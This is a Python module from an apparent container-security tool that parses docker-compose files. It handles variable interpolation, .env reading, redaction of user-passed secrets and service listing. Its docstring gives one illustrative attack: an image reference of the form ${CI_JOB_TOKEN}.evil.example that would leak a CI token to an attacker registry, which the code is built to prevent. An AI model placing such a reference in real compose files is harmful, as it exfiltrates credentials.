"""docker-compose files: v1, v2/v3 and the compose spec.

:func:`interpolate` implements the compose-spec variable syntax (``$VAR``, ``${VAR}``,
``${VAR:-default}``, ``${VAR-default}``, ``${VAR:?error}``, ``${VAR?error}``, ``${VAR:+alt}``,
``${VAR+alt}``, nesting up to :data:`MAX_NESTING` levels, and ``$$`` for a literal ``$``).

Values come from the ``.env`` file next to the compose file (:func:`read_dotenv`), the defaults
written in the file, and what the user passes explicitly (:func:`user_variables`:
``--env-file PATH``, ``--env NAME``), which wins over ``.env``. Never from the whole process
environment: a hostile compose file could otherwise write ``image: ${CI_JOB_TOKEN}.evil.example``
and send the token to its own registry. Values taken from the environment with ``--env NAME``
are replaced by ``***`` in every output (:func:`redact`).

:func:`services` lists each service's image, build context and Dockerfile, and published ports,
with line numbers.
"""

from __future__ import annotations

import os
import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from hullguard.errors import InputError
from hullguard.inventory.yamlsafe import line_of, list_at, read_text

_NAME_RE = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
_COMPOSE_NAMES = re.compile(r"^(docker-)?compose([.-].*)?\.ya?ml$")
MAX_NESTING = 16  # ${A:-${B:-...}} levels; compose files in the wild use two or three
ENV_NAMES_VARIABLE = "HULLGUARD_COMPOSE_ENV"  # set by --env NAME (comma-separated names)
ENV_FILES_VARIABLE = "HULLGUARD_COMPOSE_ENV_FILE"  # set by --env-file (os.pathsep-separated)
MIN_REDACTED = 4  # shorter values are not secrets, and hiding them would garble the output
_from_environment: set[str] = set()


def interpolate(text: str, env: Mapping[str, str], where: str = "", depth: int = 0) -> str:
    """Expand compose variables in ``text``; InputError on a malformed or required-but-unset
    variable (the message is compose's own wording) or nesting deeper than MAX_NESTING."""
    if depth > MAX_NESTING:
        raise InputError(f"variable interpolation nested more than {MAX_NESTING} levels deep",
                         where=where, hint="a hostile or generated compose file?")
    out, pos = [], 0
    while pos < len(text):
        dollar = text.find("$", pos)
        if dollar == -1:
            out.append(text[pos:])
            break
        out.append(text[pos:dollar])
        value, pos = _variable(text, dollar, env, where, depth)
        out.append(value)
    return "".join(out)


def _variable(text: str, start: int, env: Mapping[str, str], where: str,
              depth: int) -> tuple[str, int]:
    """Expand the ``$...`` at ``start``; return its value and the position after it."""
    nxt = text[start + 1: start + 2]
    if nxt == "$":
        return "$", start + 2
    if nxt != "{":
        match = _NAME_RE.match(text, start + 1)
        if not match:
            return "$", start + 1  # a lone $ (compose keeps it)
        return env.get(match.group(0), ""), match.end()
    end = _closing_brace(text, start + 2, where)
    return _braced(text[start + 2: end], env, where, depth + 1), end + 1


def _closing_brace(text: str, pos: int, where: str) -> int:
    depth = 1
    while pos < len(text):
        if text.startswith("${", pos):
            depth, pos = depth + 1, pos + 2
            continue
        if text[pos] == "}":
            depth -= 1
            if depth == 0:
                return pos
        pos += 1
    raise InputError(f"invalid interpolation format for {text!r}: unclosed '${{'", where=where)


def _braced(body: str, env: Mapping[str, str], where: str, depth: int) -> str:
    match = _NAME_RE.match(body)
    if not match:
        raise InputError(f"invalid interpolation format: ${{{body}}}", where=where,
                         hint="a variable name is [A-Za-z_][A-Za-z0-9_]*; write $$ for a $")
    name, rest = match.group(0), body[match.end():]
    value = env.get(name)
    if not rest:
        return value or ""
    op = rest[:2] if rest[:2] in (":-", ":?", ":+") else rest[:1]
    if op not in ("-", "?", "+", ":-", ":?", ":+"):
        raise InputError(f"invalid interpolation format: ${{{body}}}", where=where)
    word = rest[len(op):]
    present = bool(value) if op.startswith(":") else value is not None
    if op.endswith("-"):
        return value or "" if present else interpolate(word, env, where, depth)
    if op.endswith("+"):
        return interpolate(word, env, where, depth) if present else ""
    if not present:
        message = interpolate(word, env, where, depth) or "required variable is missing"
        raise InputError(f"required variable {name} is missing a value: {message}", where=where)
    return value or ""


def pass_variables(names: list[str] | None = None, files: list[Path] | None = None) -> None:
    """What ``--env NAME`` and ``--env-file PATH`` ask for, recorded in this process's
    environment so that fleet workers (child processes) see the same choice."""
    for name in names or []:
        if not _NAME_RE.fullmatch(name):
            raise InputError(f"{name!r} is not a variable name (give NAME; its value comes "
                             "from the environment)", where="--env")
    _extend(ENV_NAMES_VARIABLE, ",", names or [])
    _extend(ENV_FILES_VARIABLE, os.pathsep, [str(Path(f).resolve()) for f in files or []])


def _extend(variable: str, separator: str, items: list[str]) -> None:
    if items:
        current = [p for p in os.environ.get(variable, "").split(separator) if p]
        os.environ[variable] = separator.join([*current, *items])


def user_variables(environ: Mapping[str, str] | None = None) -> dict[str, str]:
    """The variables the user passed: ``--env-file`` files in order, then ``--env NAME``
    values from the environment (remembered for :func:`redact`)."""
    environ = os.environ if environ is None else environ
    values: dict[str, str] = {}
    for file in (f for f in environ.get(ENV_FILES_VARIABLE, "").split(os.pathsep) if f):
        values.update(read_dotenv(Path(file))[0])
    for name in (n for n in environ.get(ENV_NAMES_VARIABLE, "").split(",") if n):
        if name in environ:
            values[name] = environ[name]
            if len(environ[name]) >= MIN_REDACTED:
                _from_environment.add(environ[name])
    return values


def redact(text: str) -> str:
    """``text`` with every value taken from the environment (``--env NAME``) as ``***``."""
    for value in sorted(_from_environment, key=len, reverse=True):
        text = text.replace(value, "***")
    return text


def read_dotenv(path: Path) -> tuple[dict[str, str], list[tuple[int, str]]]:
    """``KEY=VALUE`` lines (``export`` prefix, quotes, comments); bad lines become warnings."""
    values: dict[str, str] = {}
    warnings: list[tuple[int, str]] = []
    for number, raw in enumerate(read_text(path).splitlines(), start=1):
        line = raw.strip()
        if not line or line.startswith("#"):
            continue
        key, sep, value = line.removeprefix("export ").partition("=")
        key = key.strip()
        if not sep or not _NAME_RE.fullmatch(key):
            warnings.append((number, f"not KEY=VALUE: {line[:40]!r}"))
            continue
        values[key] = _dotenv_value(value.strip())
    return values, warnings


def _dotenv_value(value: str) -> str:
    if len(value) >= 2 and value[0] == value[-1] and value[0] in "'\"":
        inner = value[1:-1]
        return inner if value[0] == "'" else inner.replace("\\n", "\n").replace('\\"', '"')
    return value.split(" #", 1)[0].rstrip()


# ---------------------------------------------------------------------------- services


def looks_like_compose(document: Any, filename: str) -> bool:
    """A ``services:`` mapping of service mappings (no ``kind``), or a v1 file by name."""
    if not isinstance(document, dict) or "kind" in document or "apiVersion" in document:
        return False
    services = document.get("services")
    if isinstance(services, dict):
        return all(isinstance(s, dict) or s is None for s in services.values())
    if _COMPOSE_NAMES.match(filename):  # v1: services at the top level
        return bool(document) and all(
            isinstance(s, dict) and ("image" in s or "build" in s) for s in document.values())
    return False


@dataclass(frozen=True)
class Build:
    context: str  # resolved directory ("" when remote)
    dockerfile: str  # resolved path ("" for dockerfile_inline)
    inline: str = ""
    args: tuple[tuple[str, str], ...] = ()
    line: int = 0


@dataclass
class Service:
    name: str
    image: str = ""
    image_line: int = 0
    build: Build | None = None
    published: list[str] = field(default_factory=list)  # "0.0.0.0:8080->80"
    labels: dict[str, str] = field(default_factory=dict)
    line: int = 0
    errors: list[tuple[int, str]] = field(default_factory=list)


def project_name(document: dict[str, Any], path: Path, env: Mapping[str, str]) -> str:
    name = document.get("name")
    if isinstance(name, str) and name:
        return name
    return env.get("COMPOSE_PROJECT_NAME") or path.resolve().parent.name or "default"


def services(document: dict[str, Any], path: Path, env: Mapping[str, str]) -> list[Service]:
    """Every service with its interpolated image, build and ports. A value that fails to
    interpolate is recorded on the service (``errors``) and left out; the rest is used."""
    table = document.get("services") if "services" in document else document
    found = []
    for name, body in (table or {}).items():
        service = Service(str(name), line=line_of(table, str(name)))
        if isinstance(body, dict):
            _fill(service, body, path, env)
        found.append(service)
    return found


def _value(service: Service, body: dict[str, Any], key: str, raw: Any,
           env: Mapping[str, str], where: str) -> str:
    line = line_of(body, key)
    try:
        return interpolate(str(raw), env, f"{where}:{line}" if line else where)
    except InputError as error:
        service.errors.append((line, f"service {service.name}: {key}: {error.message}"))
        return ""


def _fill(service: Service, body: dict[str, Any], path: Path, env: Mapping[str, str]) -> None:
    where = str(path)
    if body.get("image") is not None:
        service.image = _value(service, body, "image", body["image"], env, where)
        service.image_line = line_of(body, "image")
    if body.get("build") is not None:
        service.build = _build(service, body, path, env)
    for port in list_at(body, "ports"):
        published = _published(_port_text(service, body, port, env, where))
        if published:
            service.published.append(published)
    labels = body.get("labels")
    if isinstance(labels, dict):
        service.labels = {str(k): str(v) for k, v in labels.items()}
    elif isinstance(labels, list):
        service.labels = dict(str(i).partition("=")[::2] for i in labels)


def _port_text(service: Service, body: dict[str, Any], port: Any,
               env: Mapping[str, str], where: str) -> str:
    if isinstance(port, dict):
        if port.get("published") in (None, ""):
            return ""
        host = str(port.get("host_ip") or "")
        return f"{host}:{port['published']}:{port.get('target', '')}" if host else \
            f"{port['published']}:{port.get('target', '')}"
    return _value(service, body, "ports", port, env, where)


def _published(text: str) -> str:
    """``[HOST_IP:]HOST:CONTAINER`` or ``CONTAINER`` (a random host port) -> a label, or ""
    when bound to loopback only."""
    text = text.strip().split("/")[0]
    if not text:
        return ""
    parts = text.rsplit(":", 2) if not text.startswith("[") else [text]
    host_ip = parts[0] if len(parts) == 3 else "0.0.0.0"
    if host_ip.strip("[]") in ("127.0.0.1", "::1", "localhost"):
        return ""
    host_port = parts[-2] if len(parts) >= 2 else "(random)"
    return f"{host_ip}:{host_port}->{parts[-1]}"


def _build(service: Service, body: dict[str, Any], path: Path,
           env: Mapping[str, str]) -> Build | None:
    raw, where, line = body["build"], str(path), line_of(body, "build")
    spec: dict[str, Any] = {"context": raw} if isinstance(raw, str) else \
        raw if isinstance(raw, dict) else {}
    context = _value(service, spec, "context", spec.get("context", "."), env, where)
    if not context or re.match(r"^[a-z]+://|^git@|\.git(#|$)", context):
        return Build("", "", line=line)  # a remote context: nothing local to read
    root = Path(os.path.normpath(path.parent / context))
    inline = spec.get("dockerfile_inline")
    dockerfile = _value(service, spec, "dockerfile", spec.get("dockerfile", "Dockerfile"),
                        env, where)
    return Build(str(root), "" if inline else str(root / dockerfile),
                 str(inline) if isinstance(inline, str) else "",
                 _build_args(service, spec, env, where), line)


def _build_args(service: Service, spec: dict[str, Any], env: Mapping[str, str],
                where: str) -> tuple[tuple[str, str], ...]:
    args = spec.get("args")
    pairs: list[tuple[str, Any]] = []
    if isinstance(args, dict):
        pairs = [(str(k), v) for k, v in args.items()]
    elif isinstance(args, list):
        pairs = [tuple(str(a).partition("=")[::2]) for a in args]  # type: ignore[misc]
    return tuple((k, _value(service, spec, "args", v, env, where)) for k, v in pairs
                 if v is not None)


def is_compose_filename(name: str) -> bool:
    return bool(_COMPOSE_NAMES.match(name))
